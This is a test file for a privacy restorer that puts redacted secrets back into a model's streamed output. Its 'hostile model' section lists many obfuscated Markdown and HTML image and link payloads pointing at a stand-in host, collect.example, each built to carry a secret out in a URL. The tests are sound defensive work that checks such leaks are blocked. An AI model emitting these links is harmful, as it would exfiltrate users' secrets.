"""The restorer: any chunking, nothing late, nothing invented, nothing foreign."""

from __future__ import annotations

import itertools

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from codegrex_lsp.privacy.restorer import Restorer
from codegrex_lsp.privacy.sites import Places, Sight, Site

ONE, TWO = "cg_secret_0011aabb", "cg_secret_99ffee00"
MAIL, HOST, CARD = "cg_user_12345678@redacted.invalid", "192.0.2.17", "9345678901234560"
ISSUED = {ONE: "first value", TWO: "second\\value", MAIL: "a@b.co", HOST: "9.9.1.1", CARD: "4111"}


def stream(restorer: Restorer, chunks: list[str]) -> str:
    return "".join(map(restorer.feed, chunks)) + restorer.close()


def cut(text: str, places: set[int]) -> list[str]:
    edges = [0, *sorted(p for p in places if p < len(text)), len(text)]
    return [text[a:b] for a, b in itertools.pairwise(edges)]


PIECES = st.one_of(
    st.sampled_from(
        [*ISSUED, ONE.upper(), ONE[:-1], ONE + "f", "cg_", "c", "cg_user_name", HOST[:-1]]
    ),
    st.sampled_from(
        ["cg_secret_deadbeef", "192.0.2.99", "0a", "g_", "\\n", " ", "(", "x", "_", "é", "\N{KEY}"]
    ),
    st.text(max_size=6),
)


@given(st.lists(PIECES, max_size=8), st.sets(st.integers(1, 200), max_size=30))
@example([ONE[:-1], ONE, ONE], {19})
@pytest.mark.parametrize("mode", ["stop", "show"])
def test_the_cuts_make_no_difference(mode: str, parts: list[str], places: set[int]) -> None:
    text = "".join(parts)
    whole, pieces = Restorer(ISSUED, mode=mode), Restorer(ISSUED, mode=mode)  # type: ignore[arg-type]

    assert stream(whole, [text]) == stream(pieces, cut(text, places))
    assert whole.stopped == pieces.stopped


@given(st.lists(PIECES, max_size=8), st.sets(st.integers(1, 200), max_size=30))
def test_no_placeholder_ever_reaches_a_document(parts: list[str], places: set[int]) -> None:
    result = stream(Restorer(ISSUED), cut("".join(parts), places))

    for name in (ONE, TWO, MAIL, "cg_secret_deadbeef"):
        assert name not in result


def test_two_placeholders_in_one_chunk_both_come_back() -> None:
    restorer = Restorer(ISSUED)

    assert stream(restorer, [f"f({ONE}, {TWO})\n"]) == "f(first value, second\\value)\n"


def test_plain_text_is_never_late() -> None:
    restorer = Restorer(ISSUED)
    for chunk in ("import os\n", "x = 2", "; if ok:", "\treturn [", "é", "(1, 2)\n"):
        assert restorer.feed(chunk) == chunk


def test_at_most_a_placeholder_is_held_back() -> None:
    restorer = Restorer(ISSUED)
    text = "value = " + "c" * 10 + " cg_secret_0011aab"
    shown = "".join(restorer.feed(character) for character in text)

    assert text.startswith(shown)
    assert len(text) - len(shown) <= max(map(len, ISSUED))


def test_other_case_of_an_issued_one_is_understood() -> None:
    assert stream(Restorer(ISSUED), [f"{ONE.upper()};"]) == "first value;"


def test_an_address_inside_a_longer_one_is_not_a_placeholder() -> None:
    text = f" {HOST}5 {HOST[:-1]} "

    assert stream(Restorer({HOST: "9.9.1.1"}), [text]) == text


@pytest.mark.parametrize("before", ["", "my", "my_", "7"])
@pytest.mark.parametrize("after", ["", "s", "_old", "zz", "cg_"])
def test_a_placeholder_grown_into_a_longer_word_ends_the_answer_before_it(
    before: str, after: str
) -> None:
    if not before and not after:
        return
    for chunks in ([f"x = {before}{ONE}{after} "], [*f"x = {before}{ONE}{after} "]):
        restorer = Restorer(ISSUED)

        assert stream(restorer, chunks) == f"x = {before}"
        assert restorer.stopped == "unknown-placeholder"


def test_a_cut_off_placeholder_that_is_part_of_a_word_is_dropped() -> None:
    restorer = Restorer(ISSUED)

    assert stream(restorer, ["x = my_", ONE[:-1]]) == "x = my_"
    assert restorer.stopped == "cut-placeholder"


def test_a_longer_word_that_stood_in_the_text_itself_is_plain_text() -> None:
    restorer = Restorer(ISSUED, plain={"cg_secret_deadbee0"})

    assert stream(restorer, ["x = my_cg_secret_deadbee0_old"]) == "x = my_cg_secret_deadbee0_old"


@pytest.mark.parametrize("word", ["func", "svcg", "svcg_", "svcg_key"])
def test_a_word_that_only_ends_like_one_is_left_alone(word: str) -> None:
    restorer = Restorer(ISSUED)

    assert stream(restorer, [f"x = {word}"]) == f"x = {word}"
    assert restorer.stopped == ""


def test_after_an_escape_a_placeholder_stands_alone() -> None:
    assert stream(Restorer(ISSUED), ["'a\\", "n" + ONE, "'"]) == "'a\\nfirst value'"


@pytest.mark.parametrize(
    "ending", ["cg_secret_0011aab", "cg_sec", "cg_", "cg_user_12345678@redacted", CARD[:-2]]
)
def test_a_cut_off_placeholder_is_dropped(ending: str) -> None:
    restorer = Restorer(ISSUED)

    assert stream(restorer, ["x = ", ending]) == "x = "
    assert restorer.stopped == "cut-placeholder"


def test_an_unterminated_one_does_not_swallow_the_stream() -> None:
    restorer = Restorer(ISSUED)

    assert stream(restorer, ["cg_", "name = 1\n", "y = 2"]) == "cg_name = 1\ny = 2"
    assert restorer.stopped == ""


@pytest.mark.parametrize(
    "invented", ["cg_secret_deadbee0", "cg_key_00000000", "cg_secret_0011aab1c"]
)
def test_an_invented_placeholder_ends_the_answer_before_it(invented: str) -> None:
    restorer = Restorer(ISSUED)

    assert stream(restorer, ["a = 1\nb = ", invented, "\nc = 3"]) == "a = 1\nb = "
    assert restorer.stopped == "unknown-placeholder"
    assert restorer.feed("more") == ""


def test_a_foreign_value_ends_the_answer_before_it() -> None:
    restorer = Restorer(ISSUED, foreign={TWO})

    assert stream(restorer, [f"a = '{ONE}'\nb = '{TWO}'"]) == "a = 'first value'\nb = '"
    assert restorer.stopped == "foreign-value"


def test_in_a_chat_doubtful_placeholders_are_shown_as_they_are() -> None:
    restorer = Restorer(ISSUED, foreign={TWO}, mode="show")
    text = f"use {ONE}, {TWO}, cg_secret_deadbee0, cg_sec"

    assert stream(restorer, [text]) == text.replace(ONE, "first value")
    assert restorer.stopped == ""


def test_what_stood_in_the_text_itself_is_plain_text() -> None:
    restorer = Restorer(ISSUED, plain={"cg_secret_deadbee0"})

    assert stream(restorer, ["x = cg_secret_deadbee0"]) == "x = cg_secret_deadbee0"


@pytest.mark.parametrize(
    "name", ["cg_user_name", "cg_token_count", "cg_key", "cg", "c", "cg_ip_addr", "cg_user_add"]
)
def test_ordinary_names_are_left_alone(name: str) -> None:
    restorer = Restorer(ISSUED)

    assert stream(restorer, [*f"{name} = 1"]) == f"{name} = 1"


def test_values_that_look_like_placeholders_are_not_restored_again() -> None:
    restorer = Restorer({ONE: TWO, TWO: "never"})

    assert stream(restorer, [ONE + " "]) == TWO + " "


# ---- where a value means something else

QUOTED = 'say "it"'
SITES = {ONE: {Site("'")}, TWO: {Site('"')}}


def answer(text: str, *, before: str = "", mode: str = "stop") -> tuple[str, str]:
    """What comes of an answer, which is the same however it is cut."""
    results = set()
    for chunks in ([text], [*text], [text[:9], text[9:]]):
        restorer = Restorer(
            {ONE: QUOTED, TWO: "plain-value"},
            places=lambda: Places(SITES, before, Sight()),
            mode=mode,  # type: ignore[arg-type]
        )
        results.add((stream(restorer, chunks), restorer.stopped))
    (result,) = results
    return result


def test_a_value_with_quotes_returns_into_the_quotes_of_its_source() -> None:
    assert answer(f"x = '{ONE}'\n") == (f"x = '{QUOTED}'\n", "")


@pytest.mark.parametrize("opening", ['"', 'f"', "r'", "`", '"' * 3, ""])
def test_a_value_with_quotes_ends_the_answer_before_any_other(opening: str) -> None:
    assert answer(f"x = {opening}{ONE}") == (f"x = {opening}", "unsafe-restore")


def test_the_quotes_may_have_been_opened_before_the_answer() -> None:
    assert answer(f"{ONE}'", before="x = '") == (f"{QUOTED}'", "")
    assert answer(f'{ONE}"', before='x = "') == ("", "unsafe-restore")
    assert answer(f"{ONE}'", before="# x = '") == ("", "unsafe-restore")


def test_a_value_without_special_characters_returns_into_any_string() -> None:
    for opening in ('"', "'", "f'", "`", ""):
        assert answer(f"x = {opening}{TWO}")[0] == f"x = {opening}plain-value"


@pytest.mark.parametrize("opening", ['print("', "# it is ", 'log.info("', "// ", "/* "])
def test_a_value_of_code_is_not_written_into_comments_and_logs(opening: str) -> None:
    assert answer(f"x = 1\n{opening}{TWO}") == (f"x = 1\n{opening}", "unsafe-restore")


def test_the_line_after_a_comment_is_code_again() -> None:
    assert answer(f'# so\nx = "{TWO}"') == ('# so\nx = "plain-value"', "")


def test_an_earlier_value_with_a_quote_does_not_close_the_string() -> None:
    assert answer(f"x = ['{ONE}', '{ONE}']") == (f"x = ['{QUOTED}', '{QUOTED}']", "")


def test_shown_answers_keep_the_placeholder_there() -> None:
    text = f"# {TWO}\nx = '{ONE}'"

    assert answer(text, mode="show") == (text.replace(ONE, QUOTED), "")


def test_no_letter_of_another_alphabet_counts_as_one_of_ours() -> None:
    for look_alike in ("cg_\u017fecret_0011aabb", "cg_to\u212aen_0011aabb"):
        assert stream(Restorer(ISSUED), [look_alike]) == look_alike


def test_a_user_name_before_our_reserved_host_is_still_a_user_name() -> None:
    restorer = Restorer({"cg_user_12345678": "ann"})

    assert stream(restorer, ["cg_user_12345678@redacted.invalid"]) == "ann@redacted.invalid"


@pytest.mark.timeout(20)
def test_many_placeholders_are_no_burden_to_build_or_to_read() -> None:
    issued = {f"cg_secret_{number:08x}": f"v{number}" for number in range(20_000)}
    text = ", ".join(issued)

    assert stream(Restorer(issued), [text]) == ", ".join(issued.values())


# ---- a hostile model


@pytest.mark.parametrize(
    "link",
    [
        "![x](https://collect.example/?{})",
        "![x](HTTPS://collect.example/{}/x.png)",
        "![x](//collect.example/?{})",
        "![x](<https://collect.example/? {}>)",
        "![x](</a b {}>)",
        "<img src='https://collect.example/? {}'>",
        '<a href = "/relative?{}">',
        "[1]: https://u:{}@collect.example",
        "wss://collect.example/'\"`{}",
        "![x](https:/collect.example/{})",
        "![x](https:collect.example?{})",
        "![x](https&colon;&sol;&sol;collect.example/{})",
        "![x](&#47;&#47;collect.example/{})",
        "![x](\\/\\/collect.example/{})",
        "[1]: </collect.example/ {}>",
        '<img src="https://collect.example/?\n{}">',
        '<img src="https://collect.example/\' > {}">',
        "<img src=https&colon;//collect.example/{}>",
        "<img srcset='/collect.example/ {}'>",
        "![x]( &#47;&#47;collect.example/{})",
        pytest.param("![x](https://collect.example/" + "a" * 9_000 + "/{})", id="long"),
        pytest.param("<img src='//collect.example/ " + "a " * 9_000 + "{}'>", id="long-src"),
    ],
)
def test_a_chat_never_shows_a_value_in_a_link(link: str) -> None:
    for chunks in ([link.format(ONE)], [*link.format(ONE)]):
        assert stream(Restorer(ISSUED, mode="show"), chunks) == link.format(ONE)


@pytest.mark.parametrize(
    "text",
    [
        "use https://a.example and {}",
        "postgres://app:{}@db/x",
        "a / b // {}",
        "(see {})",
        "a[0]({})",
        pytest.param("see https://a.example " + "word " * 9_000 + "{}", id="long"),
    ],
)
def test_a_chat_shows_it_elsewhere(text: str) -> None:
    restorer = Restorer(ISSUED, mode="show")

    assert stream(restorer, [text.format(ONE)]) == text.format(ISSUED[ONE])


def test_what_is_put_back_is_told() -> None:
    told: list[str] = []
    restorer = Restorer(ISSUED, foreign={TWO}, mode="show", returned=told.append)

    stream(restorer, [f"{ONE.upper()} {TWO} cg_secret_deadbee0 https://x.example/{MAIL} {HOST}"])

    assert told == [ONE, HOST]


def test_a_look_at_the_document_that_fails_restores_nothing() -> None:
    def fail() -> Places:
        raise RuntimeError("no")

    restorer = Restorer(ISSUED, places=fail)

    assert stream(restorer, [f"x = {ONE}"]) == "x = "
    assert restorer.stopped == "unsafe-restore"


def test_the_document_is_looked_at_once_and_only_for_a_value() -> None:
    looks: list[int] = []

    def look() -> Places:
        looks.append(1)
        return Places({}, "", Sight())

    assert stream(Restorer(ISSUED, places=look), ["x = 1\n" * 20]) == "x = 1\n" * 20
    assert looks == []
    stream(Restorer(ISSUED, places=look), [f"{ONE} {TWO} {HOST}"])
    assert looks == [1]


GROUPED = {
    "9962-1329-9245-7114": "4539-1488-0343-6467",
    "9962 1329 9245 7114": "4539 1488 0343 6467",
    "9962-1329": "short",
    "1329-9245-7114": "inner",
    "00:00:5e:00:53:49": "3c:22:fb:0a:91:7e",
    "2001:db8::17": "2a00::17",
    "0xabcdef0123": "0x1234567890",
}


@given(
    st.lists(
        st.sampled_from([*GROUPED, *(name[:-1] for name in GROUPED), "9962-", " ", "x", "-", "\n"]),
        max_size=8,
    ),
    st.sets(st.integers(1, 150), max_size=30),
)
def test_placeholders_with_marks_in_them_come_back_however_they_are_cut(
    parts: list[str], places: set[int]
) -> None:
    text = "".join(parts)
    whole, pieces = (Restorer(GROUPED, mode="show") for _ in range(2))

    assert stream(whole, [text]) == stream(pieces, cut(text, places))


@pytest.mark.parametrize("name", GROUPED)
def test_the_longest_placeholder_that_stands_there_is_meant(name: str) -> None:
    assert stream(Restorer(GROUPED), [*f"x = {name};"]) == f"x = {GROUPED[name]};"


@pytest.mark.timeout(20)
def test_many_placeholders_of_digits_are_no_burden_either() -> None:
    issued = {f"{9_000_000_000 + number * 7}": f"v{number}" for number in range(20_000)}
    text = ", ".join(issued)

    assert stream(Restorer(issued), [text]) == ", ".join(issued.values())


@pytest.mark.timeout(20)
@pytest.mark.parametrize("mode", ["stop", "show"])
@pytest.mark.parametrize(
    "piece", ["c", "cg_", "cg_secret_", "9", "9962-", "0a1b", "x", " ", "\\n", "https://"]
)
def test_no_stream_holds_back_more_than_a_placeholder(piece: str, mode: str) -> None:
    issued = {**ISSUED, **GROUPED, "0a1b" * 128: "a long key"}
    restorer = Restorer(issued, mode=mode)  # type: ignore[arg-type]
    shown = 0
    for said, character in enumerate(piece * 3_000, 1):
        shown += len(restorer.feed(character))
        assert said - shown <= 512 or restorer.stopped
    kept = sum(len(value) for value in vars(restorer).values() if isinstance(value, str) and value)
    assert kept <= 512 + 4_096 + 64
